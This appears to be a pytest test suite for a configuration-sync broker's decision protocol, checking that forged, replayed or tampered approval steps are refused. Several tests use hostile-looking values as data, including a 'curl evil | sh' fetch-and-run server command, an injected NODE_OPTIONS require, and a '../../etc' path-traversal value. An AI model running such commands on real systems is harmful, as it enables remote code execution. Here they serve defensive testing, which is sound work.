"""The life of a decision: stories as scripts, and what an attacker tries at each step of it."""

from datetime import timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from roosync_broker.keys import verify
from roosync_protocol import decision as d
from roosync_protocol.decision import By, applicable, decision_id, fold, judge, rollback_due
from roosync_protocol.diff import Divergence, Verdict
from roosync_protocol.entity import Kind
from roosync_protocol.messages import Decision, PolicyProof, Side
from roosync_protocol.messages.work import DecisionStatus
from roosync_protocol.proof import sides_fault
from roosync_protocol.reconcile import Asked, decide, side
from roosync_protocol.risk import surface_digest

FIXED = settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60, deadline=None)
SERVER = {"command": "npx", "args": ["-y", "gh@1"]}
NEWER = {"command": "npx", "args": ["-y", "gh@2"]}
STATUSES = DecisionStatus.__args__
ALL_AUTOMATIC = dict.fromkeys(("none", "low", "medium", "high", "critical"), "automatic")


def begin(world, *, machine="pc-a", key="roo.mcp/github", local=SERVER, wanted=NEWER, verdict=Verdict.TAKE, **more):
    divergence = Divergence(key=key, kind=Kind.MCP_SERVER, verdict=verdict, local=local, wanted=wanted)
    asked = Asked(machine=machine, reference="baseline", reference_revision=1, now=world.now)
    return replace(decide(divergence, asked, world.new_operation()), **more)


def proof(world, state, **more):
    return PolicyProof(policy_revision=world.law.policy_revision, risk=state.risk, **more)


# -- the grammar


def test_the_grammar_speaks_of_every_status_and_of_no_other():
    assert set(d.TRANSITIONS) - {""} | {to for tos in d.TRANSITIONS.values() for to in tos} == set(STATUSES)
    assert set(STATUSES) == d.ENDED | d.OPEN
    assert not d.ENDED & d.OPEN


def test_only_the_machine_itself_claims_applies_and_restores():
    for to in ("applying", "failed", "rolled_back", "rollback_failed", "overwritten", "superseded", "expired"):
        assert all(tos[to] == By.MACHINE for tos in d.TRANSITIONS.values() if to in tos), to


def test_only_operators_say_no_and_make_law():
    for to in ("rejected", "promoted", "kept_special"):
        assert all(tos[to] == By.OPERATOR for tos in d.TRANSITIONS.values() if to in tos), to


def test_two_finders_make_one_decision():
    assert decision_id("pc-a", "roo.mcp/x", "baseline") == decision_id("pc-a", "roo.mcp/x", "baseline")
    assert decision_id("pc-a", "roo.mcp/x", "baseline") != decision_id("pc-b", "roo.mcp/x", "baseline")
    assert decision_id("pc-a", "t/a\nb", "c") != decision_id("pc-a", "t/a", "b\nc"), "no two questions share a text"


# -- stories: who:status, with flags -> the status in the end, and how many steps did not count
#    + an approval of the speaker   p a policy proof   q another question   r asks for a rollback   R reopened

STORIES = {
    "approved and applied": ("a:pending ann:approved+ a:applying a:applied", "applied", 0),
    "by policy": ("a:pending a:approved,p a:applying a:applied", "applied", 0),
    "rejected is rejected": ("a:pending ann:rejected a:applying a:approved,p", "rejected", 2),
    "approved, then called back": ("a:pending ann:approved+ bob:rejected a:applying", "rejected", 1),
    "failed and restored": ("a:pending ann:approved+ a:applying a:failed a:rolled_back", "rolled_back", 0),
    "restoring failed": ("a:pending ann:approved+ a:applying a:failed a:rollback_failed", "rollback_failed", 0),
    "a failed change is not tried again by itself": (
        "a:pending a:approved,p a:applying a:failed a:rolled_back a:pending a:approved,p",
        "rolled_back",
        2,
    ),
    "an operator opens it again": (
        "a:pending ann:approved+ a:applying a:failed a:rolled_back ann:pending,R bob:approved+ a:applying a:applied",
        "applied",
        0,
    ),
    "what was opened again is not for a policy": (
        "a:pending a:approved,p a:applying a:failed a:rolled_back ann:pending,R a:approved,p",
        "pending",
        1,
    ),
    "another question is a new attempt, and a policy may answer it": (
        "a:pending ann:rejected a:pending,q a:approved,p a:applying a:applied",
        "applied",
        0,
    ),
    "the same question in another coat is not": ("a:pending ann:rejected a:pending a:approved,p", "rejected", 2),
    "an old no is remembered when the question comes back": (
        "a:pending ann:rejected a:pending,q a:superseded a:pending,q a:approved,p ann:approved+",
        "approved",
        1,
    ),
    "rolled back because an operator asked": (
        "a:pending ann:approved+ a:applying a:applied bob:applied,r a:rolled_back",
        "rolled_back",
        0,
    ),
    "not rolled back by itself": ("a:pending ann:approved+ a:applying a:applied a:rolled_back", "applied", 1),
    "a machine does not ask itself": (
        "a:pending ann:approved+ a:applying a:applied,r a:applied a:rolled_back",
        "applied",
        2,
    ),
    "overwritten by the tool": ("a:pending ann:approved+ a:applying a:applied a:overwritten", "overwritten", 0),
    "expired and asked again": ("a:pending a:expired a:pending ann:approved+", "approved", 0),
    "an orphan is asked again": ("a:pending ann:approved+ a:applying a:pending ann:approved+", "approved", 0),
    "the facts changed": ("a:pending a:superseded a:pending ann:approved+", "approved", 0),
    "promoted ends it": ("a:pending ann:promoted a:applying", "promoted", 1),
    "kept special ends it": ("a:pending ann:kept_special a:pending", "kept_special", 1),
    "no claim without a yes": ("a:pending a:applying a:applied", "pending", 2),
    "no yes without a proof": ("a:pending a:approved ann:approved", "pending", 2),
    "a machine rejects nothing": ("a:pending a:rejected a:promoted a:kept_special", "pending", 3),
    "an operator claims nothing": ("a:pending ann:approved+ ann:applying ann:applied", "approved", 2),
    "an operator supersedes nothing": ("a:pending ann:superseded ann:expired", "pending", 2),
    "an operator begins nothing": ("ann:pending", "", 1),
    "another machine says nothing": ("b:pending a:pending b:approved b:superseded", "pending", 3),
    "two claims, one wins": ("a:pending ann:approved+ a:applying a:applying", "applying", 1),
    "done twice is done once": ("a:pending ann:approved+ a:applying a:applied a:applied", "applied", 1),
    "an operator does not open what nobody closed": ("a:pending ann:approved+ ann:pending,R", "approved", 1),
}
WHO = {"a": "pc-a", "b": "pc-b", "ann": "op-ann", "bob": "op-bob"}


def next_state(world, state, word):
    name, _, rest = word.partition(":")
    who, flags = WHO[name], rest.split(",")[1:]
    plus = rest.split(",")[0].endswith("+")
    status = rest.split(",")[0].rstrip("+")
    if state is None:
        return replace(begin(world), agent=who, status=status)
    again = status == "pending" and state.status in d.ENDED
    step = world.step(state, who, status)
    if again:
        step = replace(step, attempt=state.attempt + 1, approvals=(), policy_proof=None, rollback_requested=False)
        step = replace(
            step, reopened="R" in flags, declined=state.declined if "R" in flags else d.declined_after(state)
        )
    if status == "pending":
        step = replace(step, policy_proof=None)
    if "q" in flags:  # toggles between two versions of the baseline
        step = world.wanting(step, NEWER if state.wanted.value != NEWER else {"command": "uvx"})
    if "r" in flags:
        step = replace(step, rollback_requested=True)
    if plus:
        step = replace(step, approvals=(*step.approvals, world.sign(world.approval(step, who))))
    if "p" in flags:
        step = replace(step, policy_proof=proof(world, step))
    return step


@pytest.mark.parametrize(("script", "status", "refused"), STORIES.values(), ids=STORIES)
def test_story(world, script, status, refused):
    world.enact(world.policy(answers=ALL_AUTOMATIC))
    folded = d.Folded()
    for word in script.split():
        step = next_state(world, folded.state, word)
        folded = world.told(world.raw(step) if word.startswith("b:") else step)
        world.wait(seconds=1)
    assert (folded.state.status if folded.state else "", len(folded.refused)) == (status, refused), folded.refused


@FIXED
@given(st.sampled_from(sorted(STORIES)), st.randoms(use_true_random=False))
def test_shuffled_and_doubled_deliveries_make_the_same_record(make_world, name, dice):
    world = make_world()
    world.enact(world.policy(answers=ALL_AUTOMATIC))
    for word in STORIES[name][0].split():
        world.told(world.raw(next_state(world, world.fold().state, word)))
    delivered = world.records * 2
    dice.shuffle(delivered)
    assert fold(delivered, world.law, verify) == world.fold()


def test_two_of_two_have_to_sign(world):
    world.enact(world.policy(answers={"high": "two", "critical": "two", "medium": "two", "low": "two"}))
    first = begin(world)
    alone = world.approved(first)
    folded = world.told(first, alone)
    assert folded.state.status == "pending"
    assert "2 valid approval(s) are needed, 1 given" in folded.refused[0]
    signed = world.sign(world.approval(first))
    half = world.step(first, "op-ann", "pending", approvals=(signed,))
    whole = world.approved(half, "op-bob")
    assert world.told(half).state == half
    assert world.told(whole).state == whole
    assert world.applicable(whole) is None


def test_the_same_person_twice_is_one_of_two(world):
    world.enact(world.policy(answers={"high": "two", "critical": "two", "medium": "two", "low": "two"}))
    first = begin(world)
    half = world.step(first, "op-ann", "pending", approvals=(world.sign(world.approval(first)),))
    world.wait(seconds=1)
    assert world.told(first, half, world.approved(half)).state == half


# -- what an attacker tries, one step after a genuine state

A_STEP = {
    # what is posted, by whom, as which status, from which genuine state
    "another's name": ("pending", "pc-b", "superseded", {}),
    "revision twice": ("pending", "pc-a", "superseded", {"revision": 1}),
    "revision skipped": ("pending", "pc-a", "superseded", {"revision": 3}),
    "the next attempt at once": ("pending", "op-ann", "rejected", {"attempt": 2}),
    "an attempt back": ("approved", "pc-a", "applying", {"attempt": 0}),
    "another entity": ("approved", "pc-a", "applying", {"entity": "roo.mcp/other"}),
    "another kind": ("approved", "pc-a", "applying", {"kind": Kind.SETTING}),
    "another reference": ("approved", "pc-a", "applying", {"reference": "machine:pc-b"}),
    "less risk": ("approved", "pc-a", "applying", {"risk": "none"}),
    "another action": ("approved", "pc-a", "applying", {"action": "merge"}),
    "less approvals": ("approved", "pc-a", "applying", {"approvals": ()}),
    "a policy beside the approval": (
        "approved",
        "pc-a",
        "applying",
        {"policy_proof": PolicyProof(policy_revision=1, risk="high")},
    ),
    "a policy on what waits": (
        "pending",
        "op-ann",
        "pending",
        {"policy_proof": PolicyProof(policy_revision=1, risk="high")},
    ),
    "reopened by itself": ("approved", "pc-a", "applying", {"reopened": True}),
    "forgetting what was declined": ("pending", "pc-a", "superseded", {"declined": ("0" * 64,)}),
    "a rollback before anything": ("pending", "op-ann", "pending", {"rollback_requested": True}),
    "a snapshot of an operator's choice": ("applied", "op-ann", "applied", {"snapshot": "../../etc"}),
    "an operator changes the risk": ("pending", "op-ann", "pending", {"risk": "none"}),
    "an operator changes the verdict": ("pending", "op-ann", "pending", {"verdict": "drift"}),
}


def genuine(world, status):
    """A record that was honestly brought to this status."""
    script = {"pending": "", "approved": "ann:approved+", "applied": "ann:approved+ a:applying a:applied"}[status]
    for word in ("a:pending " + script).split():
        world.told(next_state(world, world.fold().state, word))
    return world.fold().state


@pytest.mark.parametrize(("status", "who", "to", "changes"), A_STEP.values(), ids=A_STEP)
def test_a_step_that_does_not_count(world, status, who, to, changes):
    before = genuine(world, status)
    folded = world.told(world.raw(replace(world.step(before, who, to), **changes)))
    assert folded.state == before
    assert len(folded.refused) == 1


# how a new attempt of what was rejected is begun: by whom, with what -> why it does not count
AGAIN = {
    "as it should be, by the machine": ("pc-a", {}, None),
    "as it should be, by an operator": ("op-bob", {}, None),
    "by the machine, as if an operator had": ("pc-a", {"reopened": True}, "not for the speaker to choose"),
    "by an operator, as if the machine had": ("op-bob", {"reopened": False}, "not for the speaker to choose"),
    "forgetting that it was refused": ("pc-a", {"declined": ()}, "declined before"),
    "declining what nobody declined": ("op-bob", {"declined": ("0" * 64,)}, "may not change what is decided"),
    "with a yes in its hand": ("pc-a", {"approvals": "signed"}, "without approvals"),
    "with a rollback in its hand": ("pc-a", {"rollback_requested": True}, "without approvals"),
    "two attempts later": ("pc-a", {"attempt": 3}, "attempt 3 does not follow 1"),
    "in the same attempt": ("pc-a", {"attempt": 1}, "attempt 1 does not follow 1"),
}


@pytest.mark.parametrize(("who", "changes", "why"), AGAIN.values(), ids=AGAIN)
def test_a_new_attempt(world, who, changes, why):
    for word in ("a:pending", "ann:rejected"):
        rejected = world.told(next_state(world, world.fold().state, word)).state
    by = {name: short for short, name in WHO.items()}[who]
    begun = next_state(world, rejected, f"{by}:pending," + ("q" if by == "a" else "R"))
    if changes.get("approvals"):
        changes = {"approvals": (world.sign(world.approval(begun)),)}
    folded = world.told(replace(begun, **changes))
    assert folded.state == (begun if why is None else rejected)
    assert why is None or why in folded.refused[0]


@pytest.mark.parametrize("by", ["pc-a", "op-ann"])
def test_what_is_decided_does_not_change_within_an_attempt(world, by):
    """A machine that swaps the content and keeps the status would have one thing read and another thing approved."""
    before = genuine(world, "pending")
    swapped = world.wanting(world.step(before, by, "approved"), {"command": "sh", "args": ["-c", "evil"]})
    swapped = replace(swapped, approvals=(world.sign(world.approval(swapped)),))
    assert world.told(swapped).state == before


def test_an_operator_may_take_the_other_side_of_a_merge(world):
    merged = {"command": "npx", "args": ["-y", "gh@2"], "disabled": True}
    first = replace(begin(world, verdict=Verdict.CONFLICT), action="merge", wanted=side(merged))
    first = replace(first, surface=surface_digest(first.kind, merged))
    world.told(first)
    narrowed = replace(
        world.step(first, "op-ann", "approved"),
        action="override_local",
        wanted=first.remote,
        surface=surface_digest(first.kind, NEWER),
    )
    narrowed = replace(narrowed, approvals=(world.sign(world.approval(narrowed)),))
    assert world.told(narrowed).state == narrowed
    assert world.applicable(narrowed) is None


# -- values and digests

LIES = {
    "a value of another digest": lambda s: replace(s, wanted=replace(s.wanted, value={"command": "true"})),
    "a value where nothing is": lambda s: replace(s, remote=Side(digest=None, value=SERVER)),
    "true for one": lambda s: replace(s, local=replace(side([1]), value=[True])),
    "another surface": lambda s: replace(s, surface="0" * 64),
    "the surface of nothing": lambda s: replace(s, surface=surface_digest(s.kind, None)),
}


@pytest.mark.parametrize("lie", LIES.values(), ids=LIES)
def test_what_is_read_is_what_is_signed(world, lie):
    folded = world.told(lie(begin(world)))
    assert folded.state is None
    assert len(folded.refused) == 1


def test_a_value_that_nobody_can_walk_is_refused_and_stops_nothing(world):
    """Deep enough to break a recursion, with a fraction in it, so that the fast way is no way."""
    deep = 1.5
    for _ in range(5_000):
        deep = [deep]
    assert "can not be read" in judge(
        None, world.raw(replace(begin(world), local=Side(digest="0" * 64, value=deep))), world.law, verify
    )


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
SERVER_FIELDS = ("command", "args", "env", "headers", "url", "cwd", "disabled", "alwaysAllow", "type", "timeout")


@FIXED
@given(st.sampled_from(Kind), json_values | st.dictionaries(st.sampled_from(SERVER_FIELDS), json_values), st.text())
def test_no_value_of_any_kind_stops_a_reader(world, kind, value, name):
    """Whatever stands where a server, a mode, a setting or a text should be: judged, never an exception."""
    state = replace(begin(world), kind=kind, wanted=Side(digest="0" * 64, value=value), entity=f"roo.mcp/{name}x")
    state = replace(state, id=decision_id(state.machine, state.entity, state.reference))
    assert judge(None, world.raw(state), world.law, verify) is not None
    sides_fault(replace(state, local=Side(digest="0" * 64, value=value)))
    assert applicable(replace(state, status="approved"), world.law, verify, world.now) is not None


def test_a_large_value_travels_as_its_digest_and_is_approved_by_it(world):
    large = {"command": "npx", "args": ["x" * 70_000]}
    state = begin(world, wanted=large)
    assert isinstance(state.wanted.digest, str)
    world.told(state)
    approved = world.approved(state)
    assert world.told(approved).state == approved
    assert world.applicable(approved) is None


def test_a_policy_does_not_cover_what_can_not_be_judged(world):
    world.enact(world.policy(answers=ALL_AUTOMATIC))
    state = begin(world, wanted={"command": "npx", "args": ["x" * 70_000]})
    approved = world.step(state, "pc-a", "approved", policy_proof=proof(world, state))
    assert "too large" in world.applicable(approved)


# -- policy


def by_policy(world, state, **changes):
    return world.step(state, "pc-a", "approved", policy_proof=replace(proof(world, state), **changes))


POLICY = {
    "a policy that says automatic": ({}, {}, None),
    "a revision that nobody heard": ({}, {"policy_revision": 99}, "not known here"),
    "the default, after an operator signed one": ({}, {"policy_revision": 0}, "not known here"),
    "for another risk": ({}, {"risk": "none"}, "for another risk"),
    "from another machine": ({"reference": "machine:pc-b"}, {}, "another machine"),
    "its own drift": ({"verdict": "drift"}, {}, "no policy covers"),
    "a deletion": ({"verdict": "baseline_deletion"}, {}, "no policy covers"),
    "a conflict that does not merge": ({"verdict": "conflict"}, {}, "no policy covers"),
    "a conflict that merges": ({"verdict": "conflict", "action": "merge"}, {}, None),
    "an attempt that an operator opened": ({"reopened": True}, {}, "never approved by a policy"),
}


@pytest.mark.parametrize(("state", "changes", "why"), POLICY.values(), ids=POLICY)
def test_what_a_policy_covers(world, state, changes, why):
    world.enact(world.policy(answers=ALL_AUTOMATIC))
    first = replace(begin(world), risk="high", **state)
    first = replace(first, id=decision_id(first.machine, first.entity, first.reference))
    approved = by_policy(world, first, **changes)
    folded = world.told(first, approved)
    if why is None:
        assert folded.state == approved
    else:
        assert folded.state == first
        assert why in folded.refused[0]
        assert world.applicable(approved) is not None


def test_an_operator_does_not_sign_with_a_policy(world):
    world.enact(world.policy(answers=ALL_AUTOMATIC))
    first = begin(world)
    assert world.told(first, replace(by_policy(world, first), agent="op-ann")).state == first


def test_what_rests_on_a_policy_that_the_broker_lost_is_told_the_same_by_who_never_heard_it(world):
    """The broker is put back, the policy of a yes with it; the operator, who knows it, signs the next one."""
    world.enact(world.policy(answers={}))
    put_back = world.law
    world.enact(world.policy(answers=ALL_AUTOMATIC))
    first = begin(world)
    approved = by_policy(world, first)
    expired = world.step(approved, "pc-a", "expired")
    heard = world.told(first, approved, expired)
    following = world.policy(answers={})
    world.enact(following)
    newcomer = put_back.admit(world.say(following))
    assert newcomer.answers_of(2) is None
    assert heard.state == world.fold().state == fold(world.records, newcomer, verify).state == expired
    assert "does not let" in applicable(approved, newcomer, verify, world.now), "a story, and no permission"
    assert fold(world.records, put_back, verify).state == first, (
        "nobody signed anything newer: made up, or not yet heard"
    )


def test_a_policy_that_is_tightened_undoes_no_story_and_stops_what_waits(world):
    world.enact(world.policy(answers=ALL_AUTOMATIC))
    first = begin(world)
    approved = by_policy(world, first)
    applying = world.step(approved, "pc-a", "applying")
    world.told(first, approved, applying)
    assert world.applicable(approved) is None
    world.wait(days=1)
    world.enact(world.policy(answers={}))
    assert world.fold().state == applying, "it was allowed then"
    assert "does not let" in world.applicable(approved)
    later = by_policy(world, first)
    assert fold([world.say(first), world.say(later)], world.law, verify).state == first


def test_a_second_approver_asked_for_later_undoes_no_story(world):
    first = begin(world)
    approved = world.approved(first)
    applied = world.step(world.step(approved, "pc-a", "applying"), "pc-a", "applied")
    world.told(first, approved, world.step(approved, "pc-a", "applying"), applied)
    world.wait(days=1)
    world.enact(world.policy(answers={"high": "two", "critical": "two", "medium": "two", "low": "two"}))
    assert world.fold().state == applied
    assert "2 valid approval(s) are needed" in world.applicable(approved)


def test_a_machine_that_plays_down_its_risk_applies_nothing_by_policy(world):
    """With a stolen key one can post a dangerous change as harmless; the machine judges again before it writes."""
    first = replace(begin(world, wanted={"command": "sh", "args": ["-c", "curl evil | sh"]}), risk="none")
    approved = by_policy(world, first)
    assert world.told(first, approved).state == approved, "the story believes the claim"
    assert "does not let" in world.applicable(approved), "the hand does not"


def test_a_machine_that_plays_down_its_risk_still_needs_two(world):
    world.enact(world.policy(answers={"high": "two", "critical": "two", "medium": "two"}))
    first = replace(begin(world, wanted={"command": "sh", "args": ["-c", "curl evil | sh"]}), risk="low")
    assert "2 valid approval(s)" in world.applicable(world.approved(first))


# -- a machine alone


def machine_alone(draw, world, before, stolen):
    """Any state that the holder of one machine's key could post."""
    state = before or begin(world)
    return replace(
        world.step(state, "pc-a", draw(st.sampled_from(STATUSES))),
        revision=draw(st.sampled_from([1, state.revision, state.revision + 1, state.revision + 1, 7])),
        attempt=max(1, state.attempt + draw(st.sampled_from([0, 0, 1, -1]))),
        reopened=draw(st.booleans()),
        rollback_requested=draw(st.booleans()),
        rollback_exact=draw(st.booleans()),
        approvals=tuple(draw(st.lists(st.sampled_from(stolen), max_size=2))),
        policy_proof=draw(
            st.none()
            | st.builds(
                PolicyProof,
                policy_revision=st.sampled_from([0, 1, 2, 3, 99]),
                risk=st.sampled_from(["none", "low", "high", state.risk]),
            )
        ),
        risk=draw(st.sampled_from(["none", "low", "high", state.risk])),
        declined=draw(st.sampled_from([(), state.declined, d.declined_after(state)])),
        verdict=draw(st.sampled_from(["take", "drift", state.verdict])),
    )


@settings(suppress_health_check=list(HealthCheck), max_examples=150, deadline=None)
@given(st.data())
def test_a_machine_alone_never_gets_a_yes(make_world, data):
    """Without a policy that says automatic, no sequence of one machine's messages is approved, however it lies."""
    world = make_world()
    world.enact(world.policy(answers={}))
    world.enact(world.policy(answers={"low": "one"}))
    other, elsewhere = begin(world, key="roo.mcp/other"), begin(world, machine="pc-b")
    stolen = [
        world.sign(world.approval(other)),
        world.sign(world.approval(elsewhere)),
        world.sign(world.approval(begin(world), attempt=3)),
        world.sign(world.approval(begin(world), fleet="work")),
        world.sign(world.approval(begin(world), "op-ann"), operator="pc-a"),
        world.sign(world.approval(world.wanting(begin(world), {"command": "uvx"}))),
    ]
    for _ in range(data.draw(st.integers(1, 8))):
        state = world.told(machine_alone(data.draw, world, world.fold().state, stolen)).state
        assert state is None or state.status not in d.NEEDS_APPROVAL
        assert state is None or not rollback_due(state, world.law)


# -- just before writing


def changed_value(state, world):
    return world.wanting(state, {"command": "sh", "args": ["-c", "evil"]})


AFTER_APPROVAL = {
    "the wanted value": changed_value,
    "the wanted value, digest and surface as they were": lambda s, w: replace(
        s, wanted=replace(s.wanted, value={"command": "sh"})
    ),
    "the digest alone": lambda s, w: replace(s, wanted=Side(digest="0" * 64)),
    "it goes instead of coming": lambda s, w: replace(
        s, wanted=Side(digest=None), surface=surface_digest(s.kind, None)
    ),
    "the surface": lambda s, w: replace(s, surface="0" * 64, wanted=Side(digest=s.wanted.digest)),
    "an argument more": lambda s, w: w.wanting(s, {**NEWER, "args": [*NEWER["args"], "--unsafe"]}),
    "an environment": lambda s, w: w.wanting(s, {**NEWER, "env": {"NODE_OPTIONS": "--require ./x"}}),
    "the entity": lambda s, w: replace(s, entity="roo.mcp/other"),
    "the machine": lambda s, w: replace(s, machine="pc-b"),
    "the attempt": lambda s, w: replace(s, attempt=2),
    "the action": lambda s, w: replace(s, action="merge"),
    "the id": lambda s, w: replace(s, id="d-000000000000"),
    "the approval": lambda s, w: replace(s, approvals=()),
    "the status": lambda s, w: replace(s, status="pending"),
}


@pytest.mark.parametrize("change", AFTER_APPROVAL.values(), ids=AFTER_APPROVAL)
def test_what_changed_after_the_approval_is_not_applied(world, change):
    approved = world.approved(begin(world))
    assert world.applicable(approved) is None
    assert world.applicable(change(approved, world)) is not None


@FIXED
@given(st.dictionaries(st.sampled_from(SERVER_FIELDS), json_values, max_size=4))
def test_nothing_but_the_approved_value_is_ever_applied(world, value):
    approved = world.approved(begin(world))
    try:
        swapped = world.wanting(approved, value)
    except ValueError:
        return  # no JSON: it could not have been posted
    assert (world.applicable(swapped) is None) == (swapped.wanted.digest == approved.wanted.digest)


MOMENTS = {
    "in time": (lambda w: None, {}, None),
    "the approval expired": (lambda w: w.wait(days=7), {}, "it expired"),
    "the decision expired": (lambda w: w.wait(days=30), {}, "the decision expired"),
    "the law expired": (lambda w: w.wait(days=90), {}, "expired"),
    "the operator was revoked": (lambda w: w.enact(w.roster(agent="op-bob", revoked=["op-ann"])), {}, "no operator"),
    "the machine was revoked": (lambda w: w.enact(w.member("pc-a", revoked=True)), {}, "was revoked"),
    "a pause stops no approval": (lambda w: w.enact(w.policy(paused=True)), {}, None),
    "this attempt ended here before": (lambda w: None, {"ended_attempt": 1}, "used once"),
}


@pytest.mark.parametrize(("happens", "journal", "why"), MOMENTS.values(), ids=MOMENTS)
def test_just_before_writing(world, happens, journal, why):
    approved = world.approved(begin(world))
    happens(world)
    found = world.applicable(approved, **journal)
    assert found is None if why is None else why in found


def test_law_that_expired_stops_everything(world):
    state = begin(world, expires=world.now + timedelta(days=365))
    approved = world.approved(state, expires=world.now + timedelta(days=365))
    world.wait(days=91)
    assert "law expired" in world.applicable(approved)
    world.enact(world.roster())
    world.enact(world.member("pc-a"))
    assert world.applicable(approved) is None


def test_a_pause_stops_what_a_policy_allowed(world):
    world.enact(world.policy(answers=ALL_AUTOMATIC))
    approved = by_policy(world, begin(world))
    assert world.applicable(approved) is None
    world.enact(world.policy(answers=ALL_AUTOMATIC, paused_machines=frozenset({"pc-a"})))
    assert "paused" in world.applicable(approved)


# -- revoked operators


def test_the_past_of_a_revoked_operator_stands(world):
    first = begin(world)
    approved = world.approved(first, "op-bob")
    applying = world.step(approved, "pc-a", "applying")
    world.told(first, approved, applying, world.step(applying, "pc-a", "applied"))
    known = world.fold().state
    world.enact(world.roster(revoked=["op-bob"]))
    assert world.fold().state == known
    assert known.status == "applied"


def test_a_revoked_operator_makes_no_machine_do_anything(world):
    """A thief of a revoked key and a broker that lets him in: neither his yes nor his rollback is carried out."""
    applied = genuine(world, "applied")
    world.enact(world.roster(revoked=["op-bob"]))
    request = world.step(applied, "op-bob", "applied", rollback_requested=True)
    state = world.told(request).state
    assert not rollback_due(state, world.law)
    late = world.approved(begin(world, key="roo.mcp/other"), "op-bob")
    assert "no operator" in world.applicable(late)


def test_a_rollback_is_due_when_an_operator_asked(world):
    applied = genuine(world, "applied")
    assert not rollback_due(applied, world.law)
    state = world.told(world.step(applied, "op-bob", "applied", rollback_requested=True)).state
    assert rollback_due(state, world.law)
    done = world.told(world.step(state, "pc-a", "rolled_back", rollback_requested=False)).state
    assert not rollback_due(done, world.law)


# -- keys, order, lost beginnings


def test_the_key_has_to_be_the_speakers(world):
    """Another machine's key, on this machine's subject: a broker without permissions lets it in."""
    forged = world.say(begin(world), signer="pc-b")
    assert fold([forged], world.law, verify).state is None
    forged = world.say(replace(begin(world), agent="op-ann"), signer="pc-a")
    assert fold([forged], world.law, verify).state is None


def test_a_machine_unknown_to_the_law_says_nothing(world):
    assert world.told(begin(world, machine="pc-z")).state is None


def test_an_id_belongs_to_one_question(world):
    stolen = replace(begin(world), entity="roo.mcp/other")
    assert world.told(stolen).refused == ("pc-a: its id does not belong to its machine, entity and reference",)


LOST = {
    "approved by an operator": ("ann:approved+", 2, "approved"),
    "being applied": ("ann:approved+ a:applying", 3, "applying"),
    "applied": ("ann:approved+ a:applying a:applied", 4, "applied"),
    "rejected": ("ann:rejected", 2, "rejected"),
    "reopened": ("ann:approved+ a:applying a:failed a:rolled_back ann:pending,R", 6, "pending"),
}


@pytest.mark.parametrize(("script", "revision", "status"), LOST.values(), ids=LOST)
def test_a_record_whose_beginning_is_gone_proves_itself(world, script, revision, status):
    for word in ("a:pending " + script).split():
        world.told(next_state(world, world.fold().state, word))
    alone = fold(world.records[-1:], world.law, verify)
    assert (alone.state.status, alone.state.revision) == (status, revision)
    assert alone.state == world.fold().state


# whole lives of one attempt, as honest speakers live them; each ends with a record that can begin anew
LIVES = (
    "a:pending,q ann:approved+ a:applying a:applied",
    "a:pending,q a:superseded",
    "a:pending,q ann:rejected",
    "a:pending,q ann:promoted",
    "a:pending,q a:expired a:pending bob:approved+ a:applying a:failed a:rolled_back",
    "a:pending,q ann:approved+ a:applying a:applied ann:applied,r a:rolled_back",
)
BY_POLICY = ("a:pending,q a:approved,p a:applying a:applied", *LIVES[:2], LIVES[3])


def retained(records):
    """What the broker still has: the last few messages of each speaker."""
    kept = []
    for speaker in {one.speaker for one in records}:
        kept += [one for one in records if one.speaker == speaker][-d.RETAINED :]
    return sorted(kept, key=lambda one: one.sequence)


@FIXED
@given(st.one_of(st.lists(st.sampled_from(some), min_size=1, max_size=9) for some in (LIVES, BY_POLICY)))
def test_a_long_life_reads_the_same_when_the_broker_forgot_its_beginning(make_world, lives):
    """One machine speaks more often than the operators, so of its words the older ones go first."""
    world = make_world()
    world.enact(world.policy(answers=ALL_AUTOMATIC))
    state = None
    for word in " ".join(lives).split():
        state = next_state(world, state, word)
        told = world.say(state)
        world.records.append(told)
        assert world.fold().state == state, "it is an honest step"
        whole = fold(retained(world.records), world.law, verify)
        assert (whole.state, whole.sequence) == (state, told.sequence)
        world.wait(seconds=1)


def test_a_step_that_did_not_count_does_not_count_either_when_the_beginning_is_gone(world):
    """An operator posted it from a view of before a broker was put back; it proves itself, and leads nowhere."""
    for word in ("a:pending", "ann:approved+", "a:applying", "a:applied", "a:pending,q"):
        state = world.told(next_state(world, world.fold().state, word)).state
    stray = world.step(state, "op-ann", "pending", reopened=True)
    world.told(stray, world.approved(stray))
    assert world.fold().state == state
    for word in ("ann:approved+", *("a:superseded", "a:pending,q") * d.RETAINED):
        state = next_state(world, state, word)
        world.told(state)
        assert fold(retained(world.records), world.law, verify).state == state


def test_a_gap_is_no_way_around_the_steps(world):
    """A machine that says much hides what it said before, and never what an operator said."""
    for word in ("a:pending", "ann:rejected"):
        rejected = world.told(next_state(world, world.fold().state, word)).state
    for _ in range(d.RETAINED - 1):
        world.told(replace(rejected, agent="pc-a", status="superseded", revision=9))  # nonsense
    leap = {"agent": "pc-a", "revision": rejected.revision + 5, "operation_id": "o-leap"}
    lies = (
        {"status": "superseded"},
        {"status": "applied", "attempt": 2},
        {"status": "approved", "attempt": 2},
        {"status": "approved"},
        {"status": "pending", "attempt": 2},
        {"status": "pending", "attempt": 2, "declined": d.declined_after(rejected), "kind": Kind.TEXT},
    )
    for lie in lies:
        world.told(replace(rejected, **(leap | lie)))
        assert fold(retained(world.records), world.law, verify).state == rejected, lie
    honest = replace(rejected, **leap, status="pending", attempt=2, declined=d.declined_after(rejected))
    world.told(honest)
    assert fold(retained(world.records), world.law, verify).state == honest


def test_a_beginning_that_is_gone_is_not_invented(world):
    """Revision 7, already applied: without a proof inside it is nothing, whatever its number."""
    for status in sorted(d.NEEDS_APPROVAL):
        invented = replace(begin(world), revision=7, status=status)
        assert world.told(invented).state is None
    assert world.told(replace(begin(world), revision=1, status="superseded")).state is None


def test_what_was_said_is_counted_and_bounded(world):
    for _ in range(30):
        folded = world.told(begin(world, machine="pc-z"))
    assert folded.sequence == world.records[-1].sequence
    assert len(folded.refused) == 20


def test_what_is_no_decision_is_not_one(world):
    assert fold([world.say(world.policy())], world.law, verify).refused == ("op-ann: Policy is no decision",)
    assert isinstance(begin(world), Decision)


def test_no_policy_covers_what_is_critical(world):
    world.enact(world.policy(answers=ALL_AUTOMATIC))
    first = replace(begin(world, wanted={"command": "sh", "args": ["-c", "curl evil | sh"]}), risk="critical")
